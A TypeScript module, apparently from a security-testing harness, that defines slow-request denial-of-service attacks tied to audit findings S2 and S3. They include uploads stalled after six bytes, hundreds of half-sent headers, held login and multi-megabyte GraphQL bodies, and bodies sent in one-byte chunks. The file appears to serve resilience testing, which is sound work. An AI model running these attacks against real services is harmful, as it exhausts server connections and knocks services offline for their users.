import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Attacker } from '../attack.ts';
import { holdSockets, pourInto } from '../held-sockets.ts';
import { persist } from '../persist.ts';

const HALF_OF_A_BODY = '{"engi';

export const stalledUploads: Attack = {
  name: 'uploads that stop after six bytes',
  finding: 'S2',
  run: async ({ url, penniless }, signal) => {
    await Promise.all([
      holdSockets(url, 8, uploadOf(penniless, 'Content-Length: 2000000', HALF_OF_A_BODY), signal),
      holdSockets(url, 8, uploadOf(penniless, 'Transfer-Encoding: chunked', `6\r\n${HALF_OF_A_BODY}\r\n`), signal),
    ]);
  },
};

/** Slow uploads hold the line while others that wait in it hang up. */
export const hangUpsInLine: Attack = {
  name: 'hang-ups while waiting to be read',
  finding: 'S2',
  run: ({ url, penniless }, signal) =>
    persist(signal, { pauseMs: 100 }, async () => {
      const slow = new AbortController();
      const impatient = new AbortController();
      const upload = uploadOf(penniless, 'Content-Length: 2000000', HALF_OF_A_BODY);
      const held = holdSockets(url, 2, upload, AbortSignal.any([signal, slow.signal]));
      await sleep(200, undefined, { signal });
      const waiting = holdSockets(url, 6, upload, AbortSignal.any([signal, impatient.signal]));
      await sleep(200, undefined, { signal });
      impatient.abort();
      await sleep(200, undefined, { signal });
      slow.abort();
      await Promise.all([held, waiting]);
    }),
};

export const halfHeaders: Attack = {
  name: 'three hundred half-sent headers',
  finding: 'S3',
  run: ({ url }, signal) => holdSockets(url, 300, 'GET /v1/engines HTTP/1.1\r\nHost: x\r\nX-Half: ', signal),
};

export const heldLogins: Attack = {
  name: 'four hundred logins with a megabyte announced and held',
  finding: 'S3',
  run: ({ dashboardUrl }, signal) => {
    const head = [
      'POST /api/login HTTP/1.1',
      `Host: ${new URL(dashboardUrl).host}`,
      `Origin: ${dashboardUrl}`,
      'Content-Type: application/json',
      'Content-Length: 1000000',
    ];
    return holdSockets(dashboardUrl, 400, `${head.join('\r\n')}\r\n\r\n{"email":"${'x'.repeat(900_000)}`, signal);
  },
};

export const heldQueries: Attack = {
  name: 'thirty GraphQL bodies of eleven megabytes, held',
  finding: 'S3',
  run: ({ url, penniless }, signal) => {
    const head = [
      'POST /graphql HTTP/1.1',
      'Host: x',
      `Authorization: Bearer ${penniless.apiKey}`,
      'Content-Type: application/json',
      'Content-Length: 11400000',
    ];
    return holdSockets(url, 30, `${head.join('\r\n')}\r\n\r\n{"query":"${'x'.repeat(11_000_000)}`, signal);
  },
};

/** What each chunk takes beside its bytes is many times those. */
function choppedBodies(bytes: number): Attack {
  return {
    name: `ten bodies in chunks of ${bytes} ${bytes === 1 ? 'byte' : 'bytes'}`,
    finding: 'S2',
    run: ({ url, penniless }, signal) => {
      const chunk = `${bytes.toString(16)}\r\n${' '.repeat(bytes)}\r\n`;
      const many = Buffer.from(chunk.repeat(Math.ceil(60_000 / chunk.length)));
      const head = uploadOf(penniless, 'Transfer-Encoding: chunked', '');
      return holdSockets(url, 10, head, signal, { onOpen: (socket) => pourInto(socket, many) });
    },
  };
}

export const chunksOfAByte = choppedBodies(1);
export const chunksOfNineBytes = choppedBodies(9);
/** As small as chunks may be, so that such a body is taken whole. */
export const chunksOfFortyBytes = choppedBodies(40);

function uploadOf({ apiKey }: Attacker, length: string, body: string): string {
  const head = [
    'POST /v1/ocr HTTP/1.1',
    'Host: x',
    `Authorization: Bearer ${apiKey}`,
    'Idempotency-Key: held',
    'Content-Type: application/json',
    length,
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}
